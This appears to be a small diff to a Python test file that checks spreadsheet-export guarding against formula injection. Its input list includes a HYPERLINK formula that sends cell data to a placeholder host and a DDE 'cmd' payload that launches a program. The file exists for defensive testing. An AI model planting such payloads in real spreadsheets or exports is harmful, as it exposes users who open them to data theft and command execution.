@@ -19,7 +19,7 @@ from klinepred.spreadsheet import guarded, unguarded
 from tests.bars.made import NOW, from_files, walk
 from tests.conftest import Typed
 
-FORMULAS = ["=1+1", "+1", "-1+1", "@SUM(A1)", "=HYPERLINK(\"http://x?\"&A1)", "=cmd|' /C calc'!A0", "\t=1", "\r=1", "＝1"]
+FORMULAS = ["=1+1", "+1", "-1+1", "@SUM(A1)", '=HYPERLINK("http://x?"&A1)', "=cmd|' /C calc'!A0", "\t=1", "\r=1", "＝1"]
 PLAIN = ["AAPL", "EURUSD=X", "^GSPC", "BRK-B", "BTC/USDT", "'quoted", "it's", "", "1-2", " =1"]
 SYMBOLS = ("=CMD()", "@ES#", "+AA", "-BB", "'=CC", "EURUSD=X", "^GSPC")
 
